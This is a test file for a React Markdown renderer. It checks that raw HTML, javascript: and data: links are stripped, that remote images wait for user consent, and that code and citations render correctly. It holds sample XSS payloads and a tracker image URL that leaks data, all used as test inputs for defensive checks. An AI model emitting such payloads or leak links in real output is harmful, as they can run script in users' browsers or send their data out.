import { render, screen } from '@testing-library/react';
import userEvent from '@testing-library/user-event';
import { describe, expect, it } from 'vitest';
import { Markdown } from './markdown';

describe('Markdown answers', () => {
  it('drops raw HTML instead of rendering it', () => {
    const { container } = render(
      <Markdown
        text={
          'Before <script>alert(1)</script> <b>bold</b> <img src=x onerror="alert(2)"> after\n\n<iframe src="https://evil.example"></iframe>'
        }
      />,
    );
    expect(container.querySelector('script, b, iframe, img')).toBeNull();
    expect(container.innerHTML).not.toContain('onerror');
    expect(container).toHaveTextContent('Before');
    expect(container).toHaveTextContent('after');
  });

  it('removes javascript: and data: links and opens the rest safely in a new tab', () => {
    const { container } = render(
      <Markdown
        text={
          '[click](javascript:alert(1)) [data](data:text/html;base64,PHNjcmlwdD4=) [docs](https://example.com/docs) <https://auto.example>'
        }
      />,
    );
    const links = [...container.querySelectorAll('a')];
    expect(links.map((link) => link.getAttribute('href'))).toEqual([
      'https://example.com/docs',
      'https://auto.example',
    ]);
    for (const link of links) {
      expect(link).toHaveAttribute('rel', 'noopener noreferrer');
      expect(link).toHaveAttribute('target', '_blank');
    }
    expect(container.innerHTML).not.toContain('javascript:');
    expect(screen.getByText('click').tagName).toBe('SPAN');
  });

  it('does not load a remote image until the user allows it', async () => {
    const { container } = render(<Markdown text={'![a chart](https://tracker.example/leak?data=secret)'} />);
    expect(container.querySelector('img')).toBeNull();
    expect(screen.getByText(/Image from tracker\.example not loaded/)).toBeInTheDocument();
    await userEvent.click(screen.getByRole('button', { name: 'Load image' }));
    const image = container.querySelector('img');
    expect(image).toHaveAttribute('src', 'https://tracker.example/leak?data=secret');
    expect(image).toHaveAttribute('referrerpolicy', 'no-referrer');
  });

  it('highlights fenced code and offers to copy it', () => {
    const { container } = render(<Markdown text={'```ts\nconst answer: number = 42;\n```'} />);
    const code = container.querySelector('pre code');
    expect(code).toHaveClass('hljs');
    expect(code?.querySelector('.hljs-keyword')).toHaveTextContent('const');
    expect(code).toHaveTextContent('const answer: number = 42;');
    expect(screen.getByText('ts')).toBeInTheDocument();
    expect(screen.getByRole('button', { name: 'Copy code' })).toBeInTheDocument();
  });

  it('turns citation markers into numbered links to the sources, but not inside code', () => {
    const { container } = render(
      <Markdown
        text={'Rust 1.0 shipped in 2015 [1], see also [2] and [3]. `arr[1]`'}
        citations={[
          { index: 1, url: 'https://blog.rust-lang.org/2015/05/15/Rust-1.0.html' },
          { index: 2, url: 'https://en.wikipedia.org/wiki/Rust' },
        ]}
      />,
    );
    const citations = [...container.querySelectorAll('a.citation')];
    expect(citations.map((link) => link.textContent)).toEqual(['[1]', '[2]']);
    expect(citations[0]).toHaveAttribute('href', 'https://blog.rust-lang.org/2015/05/15/Rust-1.0.html');
    expect(citations[0]).toHaveAccessibleName('Source 1: blog.rust-lang.org');
    expect(container).toHaveTextContent('[3]');
    expect(container.querySelector('code')).toHaveTextContent('arr[1]');
  });
});
